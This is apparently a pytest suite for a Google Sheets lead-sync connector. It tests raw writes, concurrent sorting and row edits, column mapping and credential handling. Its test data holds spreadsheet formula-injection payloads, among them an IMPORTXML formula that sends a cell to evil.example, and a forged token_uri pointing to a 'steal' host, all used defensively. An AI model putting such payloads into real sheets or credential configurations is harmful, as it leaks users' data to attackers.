"""What Google Sheets alone does: texts that stay texts, people who sort, insert and rename."""

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import pytest
import requests

from integrations.connectors.google_sheets import sheet as sheets_module
from integrations.connectors.google_sheets.account import service_account
from integrations.contracts import ConnectorError, Item, NotWritten, Written
from sandbox import demo
from tests.integrations.contract import UIDS, Subject, items, lead

FORMULAS = [
    "=1+1",
    '=IMPORTXML("http://evil.example/?"&A1,"//x")',
    '=HYPERLINK("http://evil.example","Zoé")',
    "+33612345678",
    "+A1",
    "-1+2",
    "-A1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "0612345678",
    "1e5",
    "3,14",
    "12/11/2026",
    "TRUE",
    "50 %",
    "｜=1+1",
]


@pytest.fixture
def wire(monkeypatch: pytest.MonkeyPatch) -> list[requests.PreparedRequest]:
    """Keep what really leaves for the tool."""
    sent: list[requests.PreparedRequest] = []
    send = requests.Session.send

    def kept(
        session: requests.Session, request: requests.PreparedRequest, **how: Any
    ) -> requests.Response:
        sent.append(request)
        return send(session, request, **how)

    monkeypatch.setattr(requests.Session, "send", kept)
    return sent


def writes(sent: list[requests.PreparedRequest]) -> Iterator[requests.PreparedRequest]:
    return (one for one in sent if one.method != "GET" and "/values" in str(one.url))


def says_raw(request: requests.PreparedRequest) -> bool:
    raw = request.body or b""
    text = raw if isinstance(raw, str) else raw.decode()
    in_body = json.loads(text).get("valueInputOption") if text else None
    return in_body == "RAW" or "valueInputOption=RAW" in str(request.url)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_stays_that_text_when_it_is_added_and_when_it_is_changed(
    sheets: Subject, text: str, wire: list[requests.PreparedRequest]
) -> None:
    said = lead(evidence=(), phone=text, intent=text)
    for record in (said, replace(said, level="cold")):
        sheets.push(Item(record))
        [row] = sheets.rows()
        assert (row["cells"]["Téléphone"], row["cells"]["Intention"]) == (text, text)
        assert "formulas" not in row
    assert [says_raw(request) for request in writes(wire)] == [True, True]
    assert not any("USER_ENTERED" in f"{one.url}{one.body!r}" for one in wire)


def test_a_batch_is_two_writes_however_many_leads(sheets: Subject) -> None:
    first = sheets.push(*items(lead(number) for number in range(50)))
    sheets.tools.sandbox.delete("/calls")
    sheets.push(*items((lead(number) for number in range(100)), first))
    assert [call["operation"] for call in sheets.calls()] == [
        "spreadsheet",
        "get",
        "batch_get",
        "batch_update",
        "append",
        "batch_get",
    ]
    assert [cells["Flow IA ID"] for cells in sheets.cells()] == UIDS[:100]


def test_a_sorted_sheet_is_written_where_each_lead_stands_now(sheets: Subject) -> None:
    names = ["Zoé", "Léa", "Ana"]
    first = sheets.push(*items(lead(n, name=name) for n, name in enumerate(names)))
    sheets.do("sort", column="Nom")
    sheets.push(*items((lead(n, name=name, level="cold") for n, name in enumerate(names)), first))
    assert [(cells["Nom"], cells["Flow IA ID"]) for cells in sheets.cells()] == [
        ("Ana", UIDS[2]),
        ("Léa", UIDS[1]),
        ("Zoé", UIDS[0]),
    ]


def disturb(monkeypatch: pytest.MonkeyPatch, name: str, before: Callable[[], Any]) -> None:
    """Let people do something between our look and our writing."""
    real, done = getattr(sheets_module, name), list[Any]()

    def disturbed(*rest: Any) -> Any:
        if not done:
            done.append(before())
        return real(*rest)

    monkeypatch.setattr(sheets_module, name, disturbed)


DISTURBANCES: list[dict[str, Any]] = [
    {"deed": "sort", "column": "Nom"},
    {"deed": "sort", "column": "Nom", "descending": True},
    {"deed": "insert_row", "row": 2},
    {"deed": "insert_row", "row": 2, "values": ["à la main"]},
    {"deed": "move_row", "row": 2, "to": 4},
    {"deed": "delete_row", "row": 2},
]


@pytest.mark.parametrize("deed", DISTURBANCES, ids=lambda deed: f"{deed['deed']}-{len(deed)}")
def test_a_sheet_that_is_changed_while_we_write_has_each_leads_own_values(
    sheets: Subject, monkeypatch: pytest.MonkeyPatch, deed: dict[str, Any]
) -> None:
    names = ["Nour", "Zoé", "Ana", "Léa"]
    records = [lead(n, name=name, intent=f"de {name}") for n, name in enumerate(names)]
    first = sheets.push(*items(records))
    disturb(monkeypatch, "write_rows", lambda: sheets.do(**deed))
    changed = [replace(records[n], level="cold") for n in (1, 2)]
    sheets.push(*items(changed, first))

    found = {cells["Flow IA ID"]: cells for cells in sheets.cells() if cells["Flow IA ID"]}
    for record in records:
        if record.lead_uid in found:
            level = "Froid" if record.lead_uid in UIDS[1:3] else "Chaud"
            cells = found[record.lead_uid]
            assert (cells["Nom"], cells["Intention"]) == (record.name, record.intent)
            assert cells["Niveau"] == level
    assert len(found) == (3 if deed["deed"] == "delete_row" else 4)


def test_a_sheet_that_is_sorted_while_a_row_is_deleted_loses_no_other_lead(
    sheets: Subject, monkeypatch: pytest.MonkeyPatch
) -> None:
    names = ["Nour", "Zoé", "Ana"]
    sheets.push(*items(lead(n, name=name) for n, name in enumerate(names)))
    disturb(monkeypatch, "delete_rows", lambda: sheets.do("sort", column="Nom"))
    with pytest.raises(ConnectorError) as error:
        sheets.connector.erase(sheets.connection, UIDS[0], "")
    assert (error.value.code, error.value.retryable) == ("rows_moved", True)
    sheets.connector.erase(sheets.connection, UIDS[0], "")
    found = {cells["Flow IA ID"]: cells["Nom"] for cells in sheets.cells()}
    assert found == {UIDS[1]: "Zoé", UIDS[2]: "Ana"}


def test_moved_columns_are_found_by_their_names(sheets: Subject) -> None:
    sheets.push(Item(lead(0)))
    sheets.do("add_column", column="Notes", before="Nom")
    sheets.push(*items([lead(0, name="Léa"), lead(1, name="Ana")]))
    assert [(cells["Notes"], cells["Nom"]) for cells in sheets.cells()] == [
        ("", "Léa"),
        ("", "Ana"),
    ]


def test_a_renamed_column_asks_for_a_new_map_and_writes_nothing(sheets: Subject) -> None:
    first = sheets.push(Item(lead()))
    sheets.do("rename_column", column="Niveau", to="Température")
    with pytest.raises(ConnectorError) as error:
        sheets.push(*items([lead(level="cold")], first))
    assert (error.value.code, error.value.needs) == ("column_gone", "needs_mapping")
    assert sheets.cells()[0]["Température"] == "Chaud"


def test_two_columns_of_one_name_are_nobodys(sheets: Subject) -> None:
    sheets.do("add_column", column="Niveau")
    with pytest.raises(ConnectorError) as error:
        sheets.push(Item(lead()))
    assert error.value.needs == "needs_mapping"


def test_a_nameless_column_between_ours_is_refused_before_anything_is_written(
    sheets: Subject,
) -> None:
    sheets.do("add_column", column="", before="Téléphone")
    with pytest.raises(ConnectorError) as error:
        sheets.push(Item(lead()))
    assert (error.value.code, error.value.needs) == ("header_gap", "needs_mapping")
    assert sheets.cells() == []


def test_something_nameless_beside_the_table_shifts_nothing(sheets: Subject) -> None:
    sheets.do("add_column", column="Notes", before="Nom")
    sheets.push(Item(lead(0)))
    sheets.do("edit_cell", row=2, column="Notes", value="à rappeler")
    sheets.do("edit_cell", row=1, column="Notes", value="")
    with pytest.raises(ConnectorError) as error:
        sheets.push(Item(lead(1)))
    assert (error.value.code, error.value.needs) == ("table_shifted", "needs_mapping")
    assert [cells["Flow IA ID"] for cells in sheets.cells()] == [UIDS[0]]


def test_what_stands_below_the_table_is_not_written_over(sheets: Subject) -> None:
    sheets.do("insert_row", row=4, values=["Total", "", "12"])
    sheets.push(*items(lead(number) for number in range(5)))
    found = [cells["Nom"] for cells in sheets.cells() if cells["Nom"]]
    assert found == ["Zoé Martin"] * 5 + ["Total"]


def test_rows_that_people_write_by_hand_stay(sheets: Subject) -> None:
    sheets.push(Item(lead(0)))
    sheets.do("insert_row", row=3, values=["À la main"])
    sheets.push(*items([lead(0, name="Léa"), lead(1, name="Ana")]))
    assert [cells["Nom"] for cells in sheets.cells()] == ["Léa", "À la main", "Ana"]


def test_the_sheet_is_its_number_not_its_place(sheets: Subject) -> None:
    sheets.do("add_source", name="Autre", at=0)
    sheets.push(Item(lead()))
    assert len(sheets.rows()) == 1
    found = sheets.connector.targets(sheets.connection, "")
    assert {one.name for one in found} == {"Leads", "Autre"}
    assert [one.name for one in sheets.connector.targets(sheets.connection, "autr")] == ["Autre"]


def test_a_sheet_that_was_deleted_needs_attention(sheets: Subject) -> None:
    sheets.do("add_source", name="Autre", at=0)
    sheets.do("delete_target")
    with pytest.raises(ConnectorError) as error:
        sheets.push(Item(lead()))
    assert (error.value.code, error.value.needs) == ("sheet_gone", "needs_attention")


def test_a_file_that_may_only_be_read_needs_attention(sheets: Subject) -> None:
    sheets.do("share", role="reader")
    with pytest.raises(ConnectorError) as error:
        sheets.push(Item(lead()))
    assert (error.value.code, error.value.needs) == ("PERMISSION_DENIED", "needs_attention")


def test_an_access_token_that_ended_is_renewed(sheets: Subject) -> None:
    sheets.push(Item(lead(0)))
    sheets.tools.sandbox.post("/tools/expire-tokens")
    assert isinstance(sheets.push(Item(lead(1)))[0], Written)


def test_an_empty_sheet_gets_its_names(sheets: Subject) -> None:
    for name in demo.NOTION_FIELD_MAP.values():
        sheets.do("rename_column", column=name, to=f"{name}*")
    with pytest.raises(ConnectorError):
        sheets.push(Item(lead()))


def test_the_address_that_was_kept_leads_to_the_sheets(sheets: Subject) -> None:
    address = f"https://docs.google.com/spreadsheets/u/0/d/{demo.SPREADSHEET_ID}/edit?usp=sharing"
    kept = replace(sheets.connection, target={"spreadsheet": address})
    assert [one.name for one in sheets.connector.targets(kept, "")] == ["Leads"]
    bare = replace(sheets.connection, target={})
    assert sheets.connector.targets(bare, "") == []
    with pytest.raises(ConnectorError) as error:
        sheets.connector.targets(replace(bare, target={"spreadsheet": "mes leads"}), "")
    assert error.value.code == "not_a_spreadsheet"


def test_the_address_to_share_with_is_said(sheets: Subject) -> None:
    account = sheets.connector.check(sheets.connection)
    assert account.name == demo.SERVICE_ACCOUNT_EMAIL
    assert demo.SERVICE_ACCOUNT_EMAIL in account.detail


def test_the_keys_own_token_address_is_never_asked(
    sheets: Subject, wire: list[requests.PreparedRequest]
) -> None:
    info = {**sheets.connection.secrets["service_account"], "token_uri": "http://10.0.0.1/steal"}
    info["universe_domain"] = "evil.example"
    other = replace(sheets.connection, secrets={"service_account": json.dumps(info)})
    sheets.connector.check(other)
    assert {str(one.url).split("/")[2] for one in wire} == {
        sheets.tools.sandbox.url.removeprefix("http://")
    }


@pytest.mark.parametrize(
    "change",
    [
        {"type": "authorized_user"},
        {"client_email": ""},
        {"client_email": "nobody"},
        {"private_key": ""},
        {"private_key": "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"},
        {"private_key": None},
    ],
)
def test_a_key_that_is_none_is_refused_before_anything_is_asked(
    sheets: Subject, change: dict[str, Any]
) -> None:
    info = {**sheets.connection.secrets["service_account"], **change}
    with pytest.raises(ConnectorError) as error:
        service_account({"service_account": json.dumps(info)})
    assert (error.value.code, error.value.needs) == ("key_unusable", "needs_login")


def test_the_last_row_of_a_sheet_is_emptied_where_it_cannot_be_deleted(sheets: Subject) -> None:
    sheets.push(Item(lead()))
    size = sheets.tools.seen("sheets")["size"][0]
    span = {"sheetId": demo.SPREADSHEET_GID, "dimension": "ROWS", "startIndex": 2, "endIndex": size}
    sheets.tools.file().batch_update({"requests": [{"deleteDimension": {"range": span}}]})
    sheets.connector.erase(sheets.connection, UIDS[0], "")
    assert not any(cells["Flow IA ID"] for cells in sheets.cells())


def test_a_row_that_was_cut_out_is_missing(sheets: Subject) -> None:
    first = sheets.push(Item(lead()))
    sheets.do("edit_cell", row=2, column="Flow IA ID", value="")
    assert sheets.push(*items([lead()], first)) == [NotWritten(UIDS[0], "row_missing")]


def test_a_service_account_tells_nobody_its_key(sheets: Subject) -> None:
    assert "PRIVATE KEY" not in repr(service_account(sheets.connection.secrets))
